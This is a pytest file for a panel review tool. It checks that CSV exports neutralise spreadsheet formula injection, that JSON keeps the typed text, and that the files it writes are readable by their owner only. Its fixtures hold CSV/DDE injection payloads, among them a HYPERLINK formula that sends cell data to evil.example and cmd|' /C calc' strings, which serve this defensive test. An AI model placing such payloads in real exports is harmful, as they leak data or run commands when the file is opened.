"""What the report and the exports write to disk: owner-only files, and no CSV cell a spreadsheet would run.

The pack is answered with the formulas the issue found reaching answers.csv, outcomes.csv and
actions.csv unchanged; every file written is then read back as bytes."""

from __future__ import annotations

import csv
import io
import json
import stat

import pytest

from panel_tool.report.files import FORMULA_STARTS, csv_bytes, spreadsheet_safe
from panel_tool.review.actions import add_action
from panel_tool.review.discussion import record_outcome
from panel_tool.review.responses import record_response
from panel_tool.review.session import sign_in
from panel_tool.review.words import approve_words, edit_words, list_words
from tests.conftest import run_cli
from tests.servers import released_pack

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A2,"Click")'
DDE = "@SUM(1+1)*cmd|' /C calc'!A0"
PAYLOADS = [HYPERLINK, DDE, "+owner", "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


@pytest.fixture(scope="module")
def written(tmp_path_factory):
    """A released pack whose members, panel and force typed formulas; its exports and reports, written."""
    directory = tmp_path_factory.mktemp("files")
    pack, codes = released_pack(directory, members=["Amira", "Ben"])
    for i, code in enumerate(codes.values()):
        s = sign_in(pack, code)
        s.save_answer(1, "overall_rating", "red")
        s.save_answer(1, "feedback_for_officer", PAYLOADS[i])
    record_outcome(pack, 1, rating="red", feedback_for_officer=HYPERLINK, learning_for_force=DDE, themes=["=1+1"])
    add_action(pack, "-2+3+cmd|' /C calc'!A0", owner="+owner", due_date="2025-06-30", case_id=1)
    record_response(pack, "action", 1, "\t=1+1", "2025-04-20")
    record_response(pack, "case", 1, "\r=1+1", "2025-04-21")
    # The facilitator checks members' words before any export carries them (review/words.py). The redactor
    # takes DDE's "@SUM" for a social media handle; the facilitator's own wording reaches the exports too,
    # so it is written back as the facilitator's edit, to be neutralised like any member's words.
    for piece in list_words(pack):
        if piece["text"] != HYPERLINK:
            edit_words(pack, piece["word_id"], DDE)
    approve_words(pack)
    runs = [run_cli("export", pack, "--format", "csv", "--out", directory / "csv"),
            run_cli("export", pack, "--format", "json", "--out", directory / "json"),
            run_cli("report", pack, "--out", directory / "report.html", "--pdf"),
            run_cli("report", pack, "--out", directory / "public.html", "--public")]
    for run in runs:
        assert run.code == 0, run.err
    return directory


def test_no_csv_cell_can_start_a_formula_and_the_words_are_kept(written):
    files = sorted((written / "csv").glob("*.csv"))
    assert [f.name for f in files] == ["actions.csv", "answers.csv", "cases.csv", "outcomes.csv", "responses.csv"]
    cells = []
    for f in files:
        rows = list(csv.reader(io.StringIO(f.read_bytes().decode("utf-8"), newline="")))
        assert len(rows) >= 1
        cells += [(f.name, cell) for row in rows for cell in row]
    dangerous = [(name, cell) for name, cell in cells if cell.startswith(FORMULA_STARTS)]
    assert dangerous == []
    # Each payload is there, whole, behind its quote: neutralised, not deleted. (The force's replies are
    # stored stripped, so their tab and carriage return are gone before any export: "=1+1" is left.)
    found = {(name, cell) for name, cell in cells}
    assert {("answers.csv", "'" + HYPERLINK), ("answers.csv", "'" + DDE), ("outcomes.csv", "'" + HYPERLINK),
            ("outcomes.csv", "'" + DDE), ("outcomes.csv", "'=1+1"), ("actions.csv", "'-2+3+cmd|' /C calc'!A0"),
            ("actions.csv", "'+owner"), ("responses.csv", "'=1+1")} <= found


def test_json_keeps_what_was_typed(written):
    document = json.loads((written / "json" / "feedback.json").read_bytes().decode("utf-8"))
    assert {a["answer"] for a in document["answers"] if a["question_id"] == "feedback_for_officer"} == set(PAYLOADS[:2])
    assert document["actions"][0]["owner"] == "+owner"  # JSON is data, not a spreadsheet: nothing to neutralise


def test_every_file_written_is_readable_by_its_owner_only(written):
    made = [*(written / "csv").iterdir(), *(written / "json").iterdir(), written / "report.html",
            written / "report.pdf", written / "public.html"]
    assert len(made) == 9
    modes = {p.name: stat.S_IMODE(p.stat().st_mode) for p in made}
    assert modes == {name: 0o600 for name in modes}
    assert (written / "report.pdf").read_bytes().startswith(b"%PDF-")


def test_the_rule_is_owasps():
    assert [spreadsheet_safe(c) for c in ["=1", "+1", "-1", "@x", "\tx", "\rx", "a=1", "", "'=1"]] == \
        ["'=1", "'+1", "'-1", "'@x", "'\tx", "'\rx", "a=1", "", "'=1"]
    assert csv_bytes(["=h"], [["=HYPERLINK(1)", "ok"]]) == b"'=h\r\n'=HYPERLINK(1),ok\r\n"
